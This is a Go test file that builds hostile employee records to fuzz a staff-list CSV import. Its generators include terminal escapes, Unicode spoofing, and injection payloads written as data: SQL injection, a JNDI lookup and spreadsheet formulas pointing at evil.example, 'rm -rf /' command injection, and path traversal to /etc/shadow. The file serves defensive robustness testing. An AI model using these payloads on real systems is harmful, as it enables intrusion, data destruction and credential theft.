package hostile_test

import (
	"encoding/csv"
	"fmt"
	"math/rand/v2"
	"os"
	"strings"
	"testing"
	"unicode/utf8"
)

// person is one line of the staff list.
type person struct {
	id, login, name string
}

// readable reports whether the list can say it at all: text in UTF-8, without NUL.
func (p person) readable() bool {
	return utf8.ValidString(p.login) && !strings.ContainsRune(p.login, 0)
}

// kinds make a hostile value of a number, which keeps values apart that would else
// be the same.
var kinds = []func(r *rand.Rand, n string) string{
	func(_ *rand.Rand, n string) string { return "p" + n },
	// What acts on a terminal.
	func(r *rand.Rand, n string) string { return "p" + string(rune(1+r.IntN(31))) + n },
	func(_ *rand.Rand, n string) string { return "p\x1b[31m" + n + "\x1b[2J\x1b[H" },
	func(_ *rand.Rand, n string) string { return "p\x1b]0;title " + n + "\x07" },
	func(_ *rand.Rand, n string) string { return "\x1b]8;;http://evil.example\x1b\\p" + n },
	func(_ *rand.Rand, n string) string { return "p\u009b31m" + n + "\u0085\u0090" },
	func(_ *rand.Rand, n string) string { return "p" + n + "\x7f\x08\x08" },
	// What reorders or hides.
	func(_ *rand.Rand, n string) string { return "p\u202e" + n + "gpj.exe" },
	func(_ *rand.Rand, n string) string { return "p\u2066" + n + "\u2069\u2067x" },
	func(_ *rand.Rand, n string) string { return "p\u200f\u061c\u200e" + n },
	func(_ *rand.Rand, n string) string { return "p\u200b\u200d\u2060" + n + "\ufeff" },
	func(_ *rand.Rand, n string) string { return "p" + n + "\U000e0041\U000e007f" },
	func(_ *rand.Rand, n string) string { return "p\u00ad" + n + "\u034f\u115f\u3164" },
	// One look, several spellings.
	func(_ *rand.Rand, n string) string { return "p\u00e5" + n },
	func(_ *rand.Rand, n string) string { return "pa\u030a" + n },
	func(_ *rand.Rand, n string) string { return "\u0440" + n + "\u0430dmin" },
	func(_ *rand.Rand, n string) string { return "\uff50" + n + "\u03bf" },
	func(_ *rand.Rand, n string) string { return "p\u0130\u0131\u017f\u212a\u00df" + n },
	func(_ *rand.Rand, n string) string { return "\ufb01" + n + "\u2460" },
	func(_ *rand.Rand, n string) string { return "p" + n + strings.Repeat("\u0336\u0489", 20) },
	// Other scripts, and characters of many code points.
	func(_ *rand.Rand, n string) string { return "\u05d0\u05d1\u05d2" + n },
	func(_ *rand.Rand, n string) string { return "\u0645\u062d\u0645\u062f " + n },
	func(_ *rand.Rand, n string) string { return "p\U0001f468\u200d\U0001f469\u200d\U0001f467" + n },
	func(_ *rand.Rand, n string) string { return "p\U0001f1f3\U0001f1f4\U0001f44d\U0001f3fd" + n },
	func(_ *rand.Rand, n string) string { return "\U00020000\U0001d518" + n },
	// Ends of lines and fields.
	func(_ *rand.Rand, n string) string { return "p" + n + "\nroot:x:0:0::/:/bin/sh" },
	func(_ *rand.Rand, n string) string { return "p" + n + "\r\ndn: cn=admin" },
	func(_ *rand.Rand, n string) string { return "p" + n + "\rhome" },
	func(_ *rand.Rand, n string) string { return "p" + n + "\u2028\u2029\v\f" },
	func(_ *rand.Rand, n string) string { return "p" + n + ",x\tb;c|d" },
	func(_ *rand.Rand, n string) string { return "p" + n + ":x:0:0" },
	func(_ *rand.Rand, n string) string { return "  p" + n },
	func(_ *rand.Rand, n string) string { return "p" + n + " " },
	func(_ *rand.Rand, n string) string { return "\u00a0p" + n + "\u3000" },
	// Other languages' quotes and names.
	func(_ *rand.Rand, n string) string { return `p"` + n + `'` + "`" },
	func(_ *rand.Rand, n string) string { return "p'; DROP TABLE object; -- " + n },
	func(_ *rand.Rand, n string) string { return "p%' OR 1=1 UNION SELECT x_" + n },
	func(_ *rand.Rand, n string) string { return "p{{.Secret}}${jndi:ldap://evil.example/" + n + "}" },
	func(_ *rand.Rand, n string) string { return "p$(id)`id`; rm -rf / #" + n },
	func(_ *rand.Rand, n string) string { return `=HYPERLINK("http://evil.example";"` + n + `")` },
	func(_ *rand.Rand, n string) string { return "@SUM(" + n + ")+cmd|' /C calc'!A0" },
	func(_ *rand.Rand, n string) string { return "../../etc/shadow/" + n },
	func(_ *rand.Rand, n string) string { return "p%00%0a%1b%s%n%d" + n },
	func(_ *rand.Rand, n string) string { return `p\n\x1b\u202e\2c\5c\\` + n },
	func(_ *rand.Rand, n string) string { return `p\ud800\udfff` + n },
	func(_ *rand.Rand, n string) string { return "p" + n + `,ou=admins+cn=x;<>#="\` },
	func(_ *rand.Rand, n string) string { return "#p" + n },
	func(_ *rand.Rand, n string) string { return "*)(uid=*))(|(uid=" + n },
	func(_ *rand.Rand, n string) string { return "p</script><script>alert(" + n + ")</script>&amp;" },
	func(_ *rand.Rand, n string) string { return "-" + n },
	// Ends of Unicode.
	func(_ *rand.Rand, n string) string { return "p\ufffd" + n },
	func(_ *rand.Rand, n string) string { return "p\ufffe\U0010ffff\ue000" + n },
	// Length.
	func(r *rand.Rand, n string) string { return "p" + n + strings.Repeat("x", 200+r.IntN(200)) },
	func(r *rand.Rand, n string) string { return "p" + n + strings.Repeat("\u00e5", 2000+r.IntN(100)) },
	// Not text: surrogates as CESU-8 writes them, overlong forms, lone octets, NUL.
	func(_ *rand.Rand, n string) string { return "p\xed\xa0\x80" + n },
	func(_ *rand.Rand, n string) string { return "p\xc0\xaf\xff\xfe" + n },
	func(_ *rand.Rand, n string) string { return "p\x00" + n },
	// Anything.
	func(r *rand.Rand, n string) string {
		out := []rune("p" + n)
		for range 1 + r.IntN(20) {
			c := rune(1 + r.IntN(utf8.MaxRune-1))
			if c >= 0xd800 && c < 0xe000 {
				c -= 0x800
			}
			out = append(out, c)
		}
		return string(out)
	},
}

// people are n hostile people, each kind as login and as name.
func people(n int) []person {
	r := rand.New(rand.NewPCG(1, uint64(n)))
	list := make([]person, n)
	for i := range list {
		number := fmt.Sprintf("%06d", i)
		list[i] = person{id: fmt.Sprint(10_000_000 + i), login: kinds[i%len(kinds)](r, number)}
		for ok := false; !ok; ok = (person{login: list[i].name}).readable() {
			list[i].name = kinds[r.IntN(len(kinds))](r, number)
		}
	}
	return list
}

// writeStaff writes the list as an HR system should: whole, then renamed.
func writeStaff(t *testing.T, path string, list []person) {
	t.Helper()
	f, err := os.CreateTemp(t.TempDir(), "staff")
	if err != nil {
		t.Fatal(err)
	}
	w := csv.NewWriter(f)
	_ = w.Write([]string{"employee_id", "login", "name"})
	for _, p := range list {
		_ = w.Write([]string{p.id, p.login, p.name})
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	if err := os.Rename(f.Name(), path); err != nil {
		t.Fatal(err)
	}
}
